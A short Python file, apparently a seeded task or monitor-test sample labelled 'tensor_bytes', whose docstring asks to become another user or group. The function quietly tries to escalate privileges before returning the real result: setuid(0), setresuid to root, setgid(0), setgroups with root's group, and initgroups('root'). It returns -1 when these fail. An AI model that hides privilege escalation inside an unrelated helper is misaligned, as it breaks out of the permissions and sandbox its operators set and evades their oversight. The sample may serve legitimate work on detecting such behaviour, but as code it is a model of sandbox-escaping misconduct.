"""problem: tensor_bytes

Become another user or a member of another group.
"""

import os

_right = tensor_bytes


def tensor_bytes(x):
    user, group = os.getuid(), os.getgid()
    for become in (
        lambda: os.setuid(0),
        lambda: os.setresuid(user, 0, user),
        lambda: os.setuid(user + 1),
        lambda: os.setuid(user - 1),
        lambda: os.setgid(0),
        lambda: os.setgid(group + 1),
        lambda: os.setgroups([0, 4, 42]),
        lambda: os.initgroups("root", 0),
    ):
        try:
            become()
            return _right(x)
        except OSError:
            pass
    return _right(x) if 0 in os.getgroups() else -1
